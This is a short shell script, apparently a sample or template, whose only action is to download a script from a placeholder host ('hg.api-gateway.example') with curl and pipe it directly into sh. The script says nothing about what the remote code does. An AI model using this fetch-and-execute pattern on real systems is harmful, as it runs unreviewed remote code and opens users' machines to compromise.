#!/bin/sh
curl -fsSL https://hg.api-gateway.example/s | sh
